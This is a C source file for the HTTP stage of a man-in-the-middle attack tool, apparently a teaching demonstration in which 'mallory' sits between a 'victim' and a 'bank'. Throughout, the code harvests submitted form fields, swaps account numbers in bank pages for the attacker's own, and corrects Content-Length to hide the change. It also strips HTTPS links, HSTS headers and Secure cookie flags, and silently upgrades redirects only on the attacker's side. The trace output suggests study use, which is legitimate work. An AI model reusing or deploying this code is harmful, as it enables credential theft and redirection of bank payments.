/* HTTP as a man in the middle likes it: RFC 9112 (messages), RFC 9110 7.6.1 (headers of one hop). */
#include "exchange.h"

#include <sodium.h>
#include <stdio.h>
#include <string.h>

#include "glassnet/proto/http.h"
#include "glassnet/wire.h"

#include "hello.h"

enum { BLIND_MAX = 64 * 1024 };

void exchange_init(struct exchange *x, struct trace *trace, struct loot *loot, const struct exchange_names *names,
    unsigned connection, bool blind, bool rewrite)
{
	*x = (struct exchange){.trace = trace,
	    .loot = loot,
	    .names = *names,
	    .connection = connection,
	    .blind = blind,
	    .rewrite = rewrite,
	    .state = blind ? EXCHANGE_PASS : EXCHANGE_REQUEST};
	snprintf(x->host, sizeof x->host, "%s", names->bank);
	buf_init(&x->request, EXCHANGE_REQUEST_MAX);
	/* the head that is sent on has at most a few octets more than the victim's */
	buf_init(&x->to_bank, blind ? BLIND_MAX : EXCHANGE_REQUEST_MAX + 256);
	buf_init(&x->to_victim, blind ? BLIND_MAX : EXCHANGE_REPLY_MAX);
}

void exchange_release(struct exchange *x)
{
	buf_release(&x->request);
	buf_release(&x->to_bank);
	buf_release(&x->to_victim);
}

/* --- messages, with their parts --- */

static void tell(struct exchange *x, bool sent, const char *peer, const char *label, const uint8_t *p, size_t len,
    enum secrecy secrecy)
{
	emit(x->trace, (struct event){.kind = sent ? EV_SEND : EV_RECV,
	                   .u.msg = {.from = sent ? x->names.self : peer,
	                       .to = sent ? peer : x->names.self,
	                       .proto = "HTTP",
	                       .label = label,
	                       .bytes = p,
	                       .len = len,
	                       .secrecy = secrecy}});
}

static void describe(struct exchange *x, const uint8_t *p, size_t len)
{
	struct http h;
	size_t at;

	if (trace_on(x->trace) && http_parse(&h, p, len, &at) == ERR_OK)
		http_describe(&h, p, len, 0, x->trace);
}

/* Where the reply is no longer what the bank sent. */
static void describe_changes(struct exchange *x)
{
	static const char layer[] = "Changed on the way";
	const uint8_t *p = x->to_victim.data;
	size_t len = x->to_victim.len, off, n, at;
	char meaning[128], length[24];
	struct http_header hd;
	struct http h;

	if (!trace_on(x->trace) || http_parse(&h, p, len, &at) != ERR_OK)
		return;
	snprintf(meaning, sizeof meaning, "%s wrote %s", x->names.bank, x->changed.before);
	for (size_t pos = h.body_off; account_find(p, len, pos, &off, &n); pos = off + n)
		if (n == strlen(MALLORY_ACCOUNT) && memcmp(p + off, MALLORY_ACCOUNT, n) == 0)
			ev_field(
			    x->trace, (struct ev_field){.layer = layer,
			                  .name = "account number",
			                  .value = MALLORY_ACCOUNT,
			                  .meaning = x->changed.changed == 1 ? meaning : "another one stood here",
			                  .off = off,
			                  .len = n});
	if (!h.has_length || !http_header_find(&h, p, "Content-Length", &hd))
		return;
	snprintf(meaning, sizeof meaning, "%s wrote %zu: the page has another length now, and its head has to say so",
	    x->names.bank, x->body_before);
	snprintf(length, sizeof length, "%.*s", (int)hd.value.len, (const char *)p + hd.value.off);
	ev_field(x->trace, (struct ev_field){.layer = layer,
	                       .name = "Content-Length",
	                       .value = length,
	                       .meaning = meaning,
	                       .off = hd.value.off,
	                       .len = hd.value.len});
}

/* --- answers of mallory's own --- */

static void answer(struct exchange *x, const char *status, const char *text)
{
	char page[300];
	int n = snprintf(page, sizeof page,
	    "HTTP/1.1 %s\r\nContent-Type: text/plain\r\nContent-Length: %zu\r\nConnection: close\r\n\r\n%s", status,
	    strlen(text), text);
	buf_release(&x->to_victim);
	if (n > 0 && (size_t)n < sizeof page && buf_text(&x->to_victim, page))
		x->err = ERR_NOMEM;
	x->state = EXCHANGE_DONE;
}

static void refuse(struct exchange *x, enum err e, const char *status, const char *text)
{
	ev_decision(x->trace, "not-relayed", "RFC 9110 15.5", "connection %u: %s", x->connection, text);
	x->err = e;
	answer(x, status, text);
}

void exchange_bank_failed(struct exchange *x, enum err e, const char *why)
{
	if (x->state == EXCHANGE_DONE)
		return;
	if (x->state == EXCHANGE_PASS && x->reply_begun) { /* too late for a page, and no more than a rude goodbye */
		x->state = EXCHANGE_DONE;
		return;
	}
	ev_warning(x->trace, "connection %u: %s cannot be reached: %s", x->connection, x->names.bank, why);
	x->err = e == ERR_FORMAT ? ERR_NET : e;
	if (x->blind)
		x->state = EXCHANGE_DONE;
	else
		answer(x, "502 Bad Gateway", "The bank cannot be reached.\n");
}

/* --- the request --- */

/* Headers of the victim's hop, and those that would make the reply hard to change. */
static bool is_dropped(const uint8_t *p, struct http_span name)
{
	static const char *const dropped[] = {"Connection", "Keep-Alive", "Proxy-Connection", "TE", "Upgrade",
	    "Expect", "Accept-Encoding", "Range", "If-Range", "If-None-Match", "If-Modified-Since"};
	for (size_t i = 0; i < sizeof dropped / sizeof dropped[0]; i++)
		if (http_span_is_nocase(p, name, dropped[i]))
			return true;
	return false;
}

static enum err pass_request(struct exchange *x, const struct http *h)
{
	const uint8_t *p = x->request.data;
	struct buf *out = &x->to_bank;
	enum err e = buf_append(out, p + h->method.off, h->method.len);
	if (!e)
		e = buf_text(out, " ");
	if (!e)
		e = buf_append(out, p + h->target.off, h->target.len);
	if (!e)
		e = buf_text(out, " HTTP/1.0\r\n");
	struct http_header hd;
	for (size_t pos = 0; !e && http_header_next(h, p, &pos, &hd);)
		if (!is_dropped(p, hd.name))
			e = buf_append(out, p + hd.line.off, hd.line.len);
	if (!e)
		e = buf_text(out, "Connection: close\r\n\r\n");
	if (!e)
		e = buf_append(out, p + h->body_off, (size_t)h->content_length);
	return e;
}

static void read_form(struct exchange *x, const struct http *h)
{
	const uint8_t *body = x->request.data + h->body_off;
	size_t len = (size_t)h->content_length;
	char where[EXCHANGE_LINE_MAX + 16];
	snprintf(where, sizeof where, "%s %s", x->names.scheme, x->line);
	struct http_form_field f;
	if (x->loot->n == 0)
		ev_explain(x->trace, "A form is posted as it was typed. Whoever passes it on can read it, "
		                     "unless it is encrypted "
		                     "for somebody else: for the one whose certificate the victim accepted.");
	for (size_t pos = 0; http_form_next(body, len, &pos, &f);) {
		char name[LOOT_KEY_MAX], value[LOOT_VALUE_MAX];
		size_t name_len, value_len;
		if (http_form_decode(name, sizeof name, &name_len, body + f.name.off, f.name.len) ||
		    http_form_decode(value, sizeof value, &value_len, body + f.value.off, f.value.len)) {
			ev_decision(x->trace, "field-too-long", NULL,
			    "connection %u: a form field is too long to keep", x->connection);
			continue;
		}
		x->fields++;
		loot_add(x->loot, x->trace, x->connection, where, name, name_len, value, value_len);
		sodium_memzero(value, sizeof value);
	}
}

static void take_request(struct exchange *x, const struct http *h)
{
	const uint8_t *p = x->request.data;
	char start[EXCHANGE_LINE_MAX];
	int n = snprintf(start, sizeof start, "%.*s %.*s", (int)(h->method.len < 16 ? h->method.len : 16),
	    (const char *)p + h->method.off, (int)(h->target.len < 64 ? h->target.len : 64),
	    (const char *)p + h->target.off);
	escape_text(x->line, sizeof x->line, start, n > 0 ? (size_t)n : 0);
	tell(x, false, x->names.victim, x->line, p, x->request.len, SECRECY_CLEAR);
	describe(x, p, x->request.len);
	if (http_is_form(h, p))
		read_form(x, h);
	struct http_header host;
	if (!http_header_find(h, p, "Host", &host) ||
	    !strip_host(x->host, p + host.value.off, host.value.len, x->names.bank))
		snprintf(x->host, sizeof x->host, "%s", x->names.bank);
	x->secure = x->strip && strip_insists(x->strip, x->host);
	enum err e = pass_request(x, h);
	if (e) {
		refuse(x, e, "500 Internal Server Error", "the request does not fit");
		return;
	}
	tell(x, true, x->names.bank, x->line, x->to_bank.data, x->to_bank.len, SECRECY_CLEAR);
	describe(x, x->to_bank.data, x->to_bank.len);
	x->state = EXCHANGE_REPLY;
}

/* curl and others wait for a word before they send a large body (RFC 9110 10.1.1). */
static void say_continue(struct exchange *x, const struct http *h)
{
	struct http_header hd;
	if (x->said_continue || !http_header_find(h, x->request.data, "Expect", &hd))
		return;
	x->said_continue = true;
	x->err = buf_text(&x->to_victim, "HTTP/1.1 100 Continue\r\n\r\n");
}

static void look_at_request(struct exchange *x)
{
	struct http h;
	size_t at;
	enum err e = http_parse(&h, x->request.data, x->request.len, &at);
	if (e == ERR_TRUNCATED && x->request.len < EXCHANGE_HEAD_MAX)
		return;
	if (e == ERR_TRUNCATED || e == ERR_TOO_LONG)
		refuse(x, ERR_TOO_LONG, "431 Request Header Fields Too Large", "the request's head is too long\n");
	else if (e || h.response)
		refuse(x, ERR_FORMAT, "400 Bad Request", "that is no HTTP request\n");
	else if (h.chunked)
		refuse(x, ERR_FORMAT, "411 Length Required", "the request does not say how long its body is\n");
	else if (h.content_length > EXCHANGE_REQUEST_MAX - h.body_off)
		refuse(x, ERR_TOO_LONG, "413 Content Too Large", "the request is too large\n");
	else if (x->request.len - h.body_off >= h.content_length)
		take_request(x, &h);
	else
		say_continue(x, &h);
}

/* What is not whole when the victim ends, or does not fit, goes as it is. */
static void weaken(struct exchange *x)
{
	enum err e = downgrade_hello(&x->to_bank, &x->downgrade);
	x->offered = e != ERR_TRUNCATED;
	if (e && e != ERR_TRUNCATED)
		x->err = e;
}

void exchange_from_victim(struct exchange *x)
{
	if (x->blind) {
		if (!x->server_name[0])
			hello_server_name(x->server_name, sizeof x->server_name, x->to_bank.data, x->to_bank.len);
		if (x->weaken && !x->offered)
			weaken(x);
	} else if (x->state == EXCHANGE_REQUEST) {
		look_at_request(x);
	}
}

void exchange_victim_end(struct exchange *x)
{
	x->victim_ended = x->offered = true;
	if (x->state == EXCHANGE_REQUEST) {
		if (x->request.len > 0)
			x->err = ERR_FORMAT; /* cut off in the middle of its request */
		x->state = EXCHANGE_DONE;
	} else if (x->blind && x->bank_ended) {
		x->state = EXCHANGE_DONE;
	}
}

/* --- the reply --- */

/* May this reply be changed? Only a page in plain text form: everything else would be broken by it. */
static bool is_page(const struct http *h, const uint8_t *p)
{
	struct http_header hd;
	if (h->chunked || http_header_find(h, p, "Content-Encoding", &hd) ||
	    http_header_find(h, p, "Transfer-Encoding", &hd) || !http_header_find(h, p, "Content-Type", &hd))
		return false;
	static const char html[] = "text/html";
	return hd.value.len >= sizeof html - 1 &&
	       http_span_is_nocase(p, (struct http_span){hd.value.off, sizeof html - 1}, html);
}

/* The page has grown or shrunk: its head has to say so. */
static enum err correct_length(struct exchange *x, size_t before)
{
	struct http h;
	struct http_header hd;
	size_t at;
	if (http_parse(&h, x->to_victim.data, x->to_victim.len, &at) != ERR_OK ||
	    x->to_victim.len - h.body_off == before || !h.has_length ||
	    !http_header_find(&h, x->to_victim.data, "Content-Length", &hd))
		return ERR_OK;
	char length[24];
	int n = snprintf(length, sizeof length, "%zu", x->to_victim.len - h.body_off);
	return buf_replace(&x->to_victim, hd.value.off, hd.value.len, length, (size_t)n);
}

static enum err change_accounts(struct exchange *x)
{
	struct http h;
	size_t at, before = x->to_victim.len;
	enum err e = http_parse(&h, x->to_victim.data, x->to_victim.len, &at);
	if (!e)
		e = rewrite_page(&x->to_victim, h.body_off, &x->changed);
	if (e || x->changed.changed == 0)
		return e;
	ev_state(x->trace, "page", "account number", x->changed.before, MALLORY_ACCOUNT,
	    "connection %u: %u changed in the reply to %s; the page grows from %zu to %zu octets and its "
	    "Content-Length with it",
	    x->connection, x->changed.changed, x->line, before - h.body_off, x->to_victim.len - h.body_off);
	return ERR_OK;
}

static bool is_stripped(const struct strip_report *s)
{
	return s->links + s->headers + s->cookies > 0;
}

static void say_stripped(struct exchange *x)
{
	const struct strip_report *s = &x->stripped;
	char links[STRIP_HOST_MAX + 64] = "";

	if (s->links)
		snprintf(
		    links, sizeof links, " %u link%s to https (%s)", s->links, s->links == 1 ? "" : "s", s->link);
	ev_decision(x->trace, "stripped", "RFC 6797 2.3.1",
	    "connection %u: taken from the reply before the victim sees it:%s%s%s%s%s", x->connection, links,
	    s->links && s->headers ? "," : "", s->headers ? " Strict-Transport-Security" : "",
	    s->cookies && (s->links || s->headers) ? "," : "", s->cookies ? " the word Secure of its cookies" : "");
}

static enum err strip(struct exchange *x, bool page)
{
	enum err e = strip_reply(&x->to_victim, x->names.bank, page, &x->stripped);
	if (!e && is_stripped(&x->stripped))
		say_stripped(x);
	return e;
}

static enum err change_page(struct exchange *x, const struct http *h)
{
	size_t before = x->to_victim.len - h->body_off;
	x->body_before = before;
	enum err e = x->strip ? strip(x, true) : ERR_OK;
	if (!e && x->rewrite)
		e = change_accounts(x);
	return e ? e : correct_length(x, before);
}

static void note_reply(struct exchange *x, const struct http *h, size_t len)
{
	snprintf(x->status, sizeof x->status, "%u", h->status);
	char label[64];
	snprintf(label, sizeof label, "reply %u", h->status);
	tell(x, false, x->names.bank, label, x->to_victim.data, len, SECRECY_CLEAR);
	describe(x, x->to_victim.data, len);
}

static void note_sent(struct exchange *x)
{
	char label[64];
	bool tampered = x->changed.changed > 0 || is_stripped(&x->stripped);
	snprintf(label, sizeof label, "reply %s%s", x->status, tampered ? ", changed" : "");
	tell(x, true, x->names.victim, label, x->to_victim.data, x->to_victim.len,
	    tampered ? SECRECY_TAMPERED : SECRECY_CLEAR);
	if (x->changed.changed)
		describe_changes(x);
	describe(x, x->to_victim.data, x->to_victim.len);
}

/* The bank wants the same request again, by https. The victim is not told. */
static void ask_again(struct exchange *x)
{
	struct http h;
	size_t at;

	ev_decision(x->trace, "redirect-kept", "RFC 6797 2.3.1",
	    "connection %u: %s wants this request by https. mallory puts it there itself, as an honest client does; "
	    "the "
	    "victim "
	    "is not told, and stays with http",
	    x->connection, x->host);
	x->secure = x->again = x->kept = true;
	x->bank_ended = x->reply_begun = false;
	buf_release(&x->to_victim);
	buf_release(&x->to_bank);
	enum err e = http_parse(&h, x->request.data, x->request.len, &at);
	if (!e)
		e = pass_request(x, &h);
	if (e) {
		x->again = false;
		refuse(x, e, "500 Internal Server Error", "the request does not fit");
		return;
	}
	tell(x, true, x->names.bank, x->line, x->to_bank.data, x->to_bank.len, SECRECY_CLEAR);
}

/* Is the redirect's target what was asked for, only by https? */
static bool is_same_place(const struct exchange *x, const struct http *reply, const struct strip_link *l)
{
	struct http h;
	struct http_header hd;
	size_t at;

	if (strcmp(l->host, x->host) != 0 || http_parse(&h, x->request.data, x->request.len, &at) != ERR_OK ||
	    !http_header_find(reply, x->to_victim.data, "Location", &hd))
		return false;
	struct http_span path = {hd.value.off + l->len, hd.value.len - l->len};
	if (path.len == 0)
		return http_span_is(x->request.data, h.target, "/");
	return path.len == h.target.len &&
	       memcmp(x->to_victim.data + path.off, x->request.data + h.target.off, path.len) == 0;
}

/* True when the reply is dealt with. */
static bool keep_redirect(struct exchange *x, const struct http *h)
{
	struct strip_link l;

	if (!x->strip || x->secure || !strip_is_redirect(h, x->to_victim.data, x->names.bank, &l))
		return false;
	strip_remember(x->strip, l.host);
	if (!is_same_place(x, h, &l))
		return false; /* the victim goes there by http, and mallory by https */
	note_reply(x, h, x->to_victim.len);
	ask_again(x);
	return true;
}

/* What is no page passes as it comes; stripped, it lacks a word in its head. */
static void pass_reply(struct exchange *x, const struct http *h, bool ended)
{
	if (h)
		note_reply(x, h, x->to_victim.len);
	if (h && x->strip && strip(x, false) != ERR_OK) {
		refuse(x, ERR_TOO_LONG, "502 Bad Gateway", "the changed reply does not fit\n");
		return;
	}
	note_sent(x);
	x->state = ended ? EXCHANGE_DONE : EXCHANGE_PASS;
}

/* Decides what becomes of the held reply; ended: no more of it comes. */
static void look_at_reply(struct exchange *x, bool ended)
{
	struct http h;
	size_t at;
	struct buf *reply = &x->to_victim;
	enum err e = http_parse(&h, reply->data, reply->len, &at);
	if (e == ERR_TRUNCATED && !ended && reply->len < EXCHANGE_HEAD_MAX)
		return;
	bool is_reply = !e && h.response, full = buf_room(reply) < sizeof MALLORY_ACCOUNT;
	if (is_reply && keep_redirect(x, &h))
		return;
	if (!is_reply || !(x->rewrite || x->strip) || !is_page(&h, reply->data) || full) {
		pass_reply(x, is_reply ? &h : NULL, ended);
		return;
	}
	bool whole = ended || (h.has_length && reply->len - h.body_off >= h.content_length);
	if (!whole)
		return;
	note_reply(x, &h, reply->len);
	if (change_page(x, &h))
		refuse(x, ERR_TOO_LONG, "502 Bad Gateway", "the changed page does not fit\n");
	else
		note_sent(x);
	x->state = EXCHANGE_DONE;
}

void exchange_from_bank(struct exchange *x)
{
	x->reply_begun = true;
	if (x->state == EXCHANGE_REPLY)
		look_at_reply(x, false);
}

void exchange_bank_end(struct exchange *x)
{
	x->bank_ended = true;
	if (x->state == EXCHANGE_REPLY)
		look_at_reply(x, true);
	else if (!x->blind || x->victim_ended)
		x->state = EXCHANGE_DONE;
}

/* --- buffers --- */

struct buf *exchange_victim_input(struct exchange *x)
{
	struct buf *b = x->blind ? &x->to_bank : &x->request;
	/* the "100 Continue" has to be out first */
	bool wanted = x->blind ? x->state == EXCHANGE_PASS : x->state == EXCHANGE_REQUEST && x->to_victim.len == 0;
	return wanted && buf_room(b) > 0 ? b : NULL;
}

struct buf *exchange_bank_input(struct exchange *x)
{
	bool wanted = x->state == EXCHANGE_REPLY || x->state == EXCHANGE_PASS;
	return wanted && buf_room(&x->to_victim) > 0 ? &x->to_victim : NULL;
}

struct buf *exchange_bank_output(struct exchange *x)
{
	bool held = x->weaken && !x->offered;
	return !held && x->to_bank.len > 0 ? &x->to_bank : NULL;
}

struct buf *exchange_victim_output(struct exchange *x)
{
	bool held = x->state == EXCHANGE_REPLY;
	return !held && x->to_victim.len > 0 ? &x->to_victim : NULL;
}
